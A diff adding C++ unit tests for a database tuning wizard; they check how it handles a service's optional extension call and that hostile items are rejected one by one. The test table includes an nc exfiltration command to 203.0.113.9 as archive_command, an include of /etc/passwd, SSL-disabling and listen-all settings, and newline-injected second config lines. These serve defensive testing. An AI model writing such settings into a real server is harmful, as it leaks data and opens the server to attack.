@@ -356,6 +356,195 @@ TEST_F(CannedExchange, HostileAnswersAreRefusedWhole)
     service.rawValues.reset();
 }
 
+namespace {
+
+using Row = std::vector<std::string>;
+
+const std::string extraValuesUnavailable = "The extra values could not be had from the tuning service; the 17 values apply.";
+
+std::vector<std::pair<std::string, std::string>> Notices(const std::vector<ExtensionNotice>& notices)
+{
+    std::vector<std::pair<std::string, std::string>> texts;
+    for (const ExtensionNotice& notice : notices)
+        texts.emplace_back(notice.name.utf8_string(), notice.text.utf8_string());
+    return texts;
+}
+
+std::vector<Row> Settings(const Server& server)
+{
+    std::vector<Row> settings;
+    for (const ExtensionSetting& setting : server.extensionSettings)
+        settings.push_back({setting.name.utf8_string(), setting.value.utf8_string(), setting.reason.utf8_string(),
+                            setting.restart ? "restart" : ""});
+    return settings;
+}
+
+} // namespace
+
+// Old and new ends meet: a service without the extension gets today's three calls; one that
+// offers it gets the fourth with the facts; one whose fourth call fails leaves the 17 in place
+// and the user told.
+TEST_F(CannedExchange, TheExtensionIsAskedOnlyOfAServiceThatOffersIt)
+{
+    server.SetVersion(wxT("15.4"));
+    service.extensionRows = {{"jit", "off", "set", "compiling short queries costs more"},
+                             {"max_worker_processes", "16", "set", "a worker on each processor"}};
+    MachineFacts facts;
+    facts.cpus = 16;
+    facts.storage = Storage::ssd;
+    facts.maxConnectionsNow = 300;
+    std::uint64_t physical = 0;
+    ASSERT_TRUE(QueryTotalMemory(physical));
+    const std::string limit = std::to_string((physical >> 20) - 1); // the canned values still fit
+    facts.memoryLimitMb = (physical >> 20) - 1;
+    struct Case
+    {
+        const char* description;
+        std::string testText;
+        bool extensionFails;
+        bool asked;
+        std::size_t settings;
+    };
+    const Case cases[] = {
+        {"a service without the extension", "ready", false, false, 0},
+        {"a service that offers none", "ready ext=0", false, false, 0},
+        {"a service with the extension", "Pelloran tuning service is running ext=1", false, true, 2},
+        {"a newer service", "ready ext=2 more=3", false, true, 2},
+        {"a service whose fourth call fails", "ready ext=1", true, true, 0},
+    };
+    for (const Case& c : cases) {
+        service.testText = c.testText;
+        service.extensionFails = c.extensionFails;
+        server.values = {};
+        server.extensionUnavailable = !c.extensionFails; // each exchange starts afresh
+        server.advice = {{wxT("left"), wxT("over")}};
+        const std::size_t requestsBefore = responder.Requests().size();
+        const ExchangeRun run = RunExchangeWith(server, 1, facts);
+        ASSERT_TRUE(run.completed) << c.description << ": " << run.standardError;
+        EXPECT_TRUE(run.errors.empty()) << c.description;
+        EXPECT_EQ(Values(), TableValues()) << c.description;
+        EXPECT_EQ(responder.Requests().size() - requestsBefore, c.asked ? 4u : 3u) << c.description;
+        EXPECT_EQ(Settings(server).size(), c.settings) << c.description;
+        EXPECT_TRUE(server.advice.empty()) << c.description;
+        EXPECT_EQ(server.extensionUnavailable, c.extensionFails) << c.description;
+        const bool told = std::find(run.steps.begin(), run.steps.end(), std::make_pair(5, extraValuesUnavailable)) != run.steps.end();
+        EXPECT_EQ(told, c.extensionFails) << c.description;
+        EXPECT_EQ(run.steps.back(), std::make_pair(6, std::string("Done"))) << c.description;
+        if (!c.asked)
+            continue;
+        const std::vector<std::string> fetched = DecodedItems(RequestsOf(responder, "getQuorvelInfo").back());
+        const std::vector<std::string> extended = DecodedItems(RequestsOf(responder, "getTuningExtensions").back());
+        const std::vector<std::string> expected = {fetched[0], "ext/1", "cpus=16", "storage=ssd", "memory_limit_mb=" + limit,
+                                                   "max_connections_now=300"};
+        EXPECT_EQ(extended, expected) << c.description;
+        EXPECT_EQ(fetched[2], limit) << "the memory announced is the limit the server runs under";
+    }
+    EXPECT_EQ(Settings(server).size(), 0u);
+    service.extensionFails = false;
+    service.testText = "ready ext=1";
+    ASSERT_TRUE(RunExchangeWith(server, 1, facts).completed);
+    EXPECT_EQ(Settings(server), (std::vector<Row>{{"jit", "off", "compiling short queries costs more", ""},
+                                                  {"max_worker_processes", "16", "a worker on each processor", "restart"}}));
+    FetchMemoryInfo();
+    EXPECT_NE(std::string(memoryMegabytes), limit) << "the limit is announced for its exchange only";
+}
+
+// Whoever answers as the service must not make the wizard write a name it does not know, a
+// second line, or a value the server refuses: each such item is dropped alone, with the rule
+// that dropped it, and the 17 and the sound items still apply.
+TEST_F(CannedExchange, HostileExtensionItemsAreDroppedAlone)
+{
+    service.testText = "ready ext=1";
+    const std::vector<Row> sound = {{"autovacuum_max_workers", "5", "set", "more tables vacuumed at once"},
+                                    {"random_page_cost", "1.1", "refine", "solid-state storage"},
+                                    {"huge_pages", "", "advice", "reserve 1100 huge pages (vm.nr_hugepages)"}};
+    const std::string notWritten = "Pelloran does not write this parameter.";
+    const std::string refusedValue = "The server does not take this value.";
+    struct Case
+    {
+        Row item;
+        std::string rule;
+        const char* version = "15.4";
+        std::vector<std::pair<std::size_t, std::string>> valuesChanged = {}; // of the 17 the service sends
+    };
+    const Case cases[] = {
+        {{"wal_level", "minimal", "set", "r"}, notWritten},
+        {{"max_wal_senders", "0", "set", "r"}, notWritten},
+        {{"listen_addresses", "*", "set", "r"}, notWritten},
+        {{"shared_preload_libraries", "evil", "set", "r"}, notWritten},
+        {{"archive_command", "nc 203.0.113.9 25 < %p", "set", "r"}, notWritten},
+        {{"restore_command", "cp /x %p", "set", "r"}, notWritten},
+        {{"ssl", "off", "set", "r"}, notWritten},
+        {{"ssl_cert_file", "/tmp/x", "set", "r"}, notWritten},
+        {{"include", "/etc/passwd", "set", "r"}, notWritten},
+        {{"include_dir", "/tmp", "set", "r"}, notWritten},
+        {{"data_directory", "/tmp", "set", "r"}, notWritten},
+        {{"hba_file", "/tmp/hba", "set", "r"}, notWritten},
+        {{"io_method", "worker", "set", "r"}, notWritten},
+        {{"huge_pages", "on", "set", "r"}, notWritten},
+        {{"no_such_parameter", "1", "set", "r"}, notWritten},
+        {{"max_wal_size", "4GB\nlisten_addresses = '*'", "set", "r"}, refusedValue},
+        {{"max_wal_size", "4GB", "write", "r"}, "Its kind is none of set, refine and advice."},
+        {{"max_wal_size", "4GB", "set", "fewer checkpoints\nssl = off"},
+         "Its reason is not one line of at most 160 printable characters without #."},
+        {{"max_wal_size", "4GB", "set", "fewer # checkpoints"},
+         "Its reason is not one line of at most 160 printable characters without #."},
+        {{"max_wal_size", "4GB", "set", std::string(161, 'r')},
+         "Its reason is not one line of at most 160 printable characters without #."},
+        {{"max_wal_size", "4GB", "set"}, "It does not hold a name, a value, a kind and a reason."},
+        {{"huge_pages_advice", "on", "advice", "r"}, "Advice carries no value."},
+        {{"wal_compression", "lz4", "set", "r"}, refusedValue, "14.1"},
+        {{"max_parallel_workers", "2000", "set", "r"}, refusedValue},
+        {{"checkpoint_completion_target", "0.9", "set", "r"}, "The server's version does not have it."},
+        {{"shared_buffers", "1GB", "set", "r"}, "One of the 17 values is changed only by a refine."},
+        {{"max_fsm_pages", "20000", "refine", "r"}, "It refines a value the service did not send.", "15.4", {{4, ""}}},
+        {{"io_workers", "4", "refine", "r"}, "Only one of the 17 values can be refined.", "18.1"},
+        {{"max_connections", "12", "refine", "r"}, refusedValue, "10.5"},
+        {{"autovacuum_max_workers", "4", "set", "r"}, "It is given more than once."},
+        {{"max_parallel_workers", "12", "set", "r"}, "It exceeds max_worker_processes (8)."},
+        // shared_buffers has room for 101 connections, not for 1000
+        {{"max_connections", "1000", "refine", "r"}, "It does not go with the other values for this server.", "8.3",
+         {{1, "8MB"}}},
+    };
+    std::vector<std::string> refined = TableValues();
+    refined[randomPageCostIndex] = "1.1";
+    for (const Case& c : cases) {
+        const std::string description = c.item[0] + " " + c.rule;
+        server.SetVersion(c.version);
+        service.extensionRows = sound;
+        service.extensionRows.push_back(c.item);
+        service.pairs = CannedService::TablePairs();
+        std::vector<std::string> expected = refined;
+        for (const auto& [slot, value] : c.valuesChanged) {
+            service.pairs[slot].second = ToHex(value);
+            expected[slot] = value;
+        }
+        const ExchangeRun run = RunExchangeWith(server, 1);
+        ASSERT_TRUE(run.completed) << description << ": " << run.standardError;
+        EXPECT_FALSE(server.extensionUnavailable) << description;
+        EXPECT_EQ(Values(), expected) << description;
+        EXPECT_EQ(server.reasons[randomPageCostIndex], wxT("solid-state storage")) << description;
+        EXPECT_EQ(Settings(server), (std::vector<Row>{{"autovacuum_max_workers", "5", "more tables vacuumed at once", "restart"}}))
+            << description;
+        EXPECT_EQ(Notices(server.advice), (std::vector<std::pair<std::string, std::string>>{
+                                              {"huge_pages", "reserve 1100 huge pages (vm.nr_hugepages)"}}))
+            << description;
+        EXPECT_EQ(Notices(server.dropped), (std::vector<std::pair<std::string, std::string>>{{c.item[0], c.rule}}))
+            << description;
+    }
+
+    // Items beyond 64 are not read: the first 64 still apply.
+    server.SetVersion(wxT("15.4"));
+    service.extensionRows = sound;
+    for (int i = 0; i < 62; ++i)
+        service.extensionRows.push_back({"advice_" + std::to_string(i), "", "advice", "r"});
+    ASSERT_TRUE(RunExchangeWith(server, 1).completed);
+    EXPECT_EQ(server.advice.size(), 62u);
+    EXPECT_EQ(Settings(server).size(), 1u);
+    EXPECT_EQ(Notices(server.dropped), (std::vector<std::pair<std::string, std::string>>{
+                                           {"", "The answer held 65 items; those beyond the first 64 were not read."}}));
+}
+
 TEST_F(CannedExchange, UnavailableMemoryFiguresStopTheExchange)
 {
     SetTotalMemorySource([](std::uint64_t&) { return false; });
